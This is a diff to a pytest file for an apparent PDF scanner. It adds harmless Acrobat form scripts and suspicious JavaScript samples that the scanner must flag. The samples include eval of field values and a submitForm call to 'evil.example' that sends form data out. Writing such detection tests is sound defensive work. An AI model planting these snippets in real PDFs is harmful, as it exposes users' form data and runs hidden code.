@@ -278,7 +278,15 @@ CHECK = (
 
 @pytest.mark.parametrize(
     "source",
-    [CHECK, 'AFNumber_Format(2, 0, 0, 0, "", false);', 'AFDate_FormatEx("d");'],
+    [
+        CHECK,
+        'AFNumber_Format(2, 0, 0, 0, "", false);',
+        'AFDate_FormatEx("d");',
+        "this.print({bUI: true, bSilent: false});",
+        'this.resetForm(["name", "sum"]);',
+        'event.value = this.getField("sum").value * 0.25;',
+        'var f = this.getField("day"); f.value = util.printd("d", new Date());',
+    ],
 )
 def test_what_forms_do_is_no_exploit(analyze, tmp_path: Path, source: str):
     analysis = analyze(script_at(tmp_path, source, "root", "/OpenAction"))
@@ -304,6 +312,25 @@ def test_what_does_more_than_the_check_is_a_script(
     analysis = analyze(
         script_at(tmp_path, CHECK.replace(*change), "root", "/OpenAction")
     )
+
+    assert "pdf_javascript" in kinds_of(analysis)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "app.alert(1)",
+        'var f = this.getField("a").value; eval(f);',
+        'this["print"](1)',
+        'this.getField("a")["value"]',
+        'var eval; eval(this.getField("a").value);',
+        'this.submitForm("http://evil.example")',
+        'this.getField("a").value = "http://evil.example/"',
+        "",
+    ],
+)
+def test_what_does_more_than_forms_do_is_a_script(analyze, tmp_path: Path, source: str):
+    analysis = analyze(script_at(tmp_path, source, "root", "/OpenAction"))
 
     assert "pdf_javascript" in kinds_of(analysis)
 
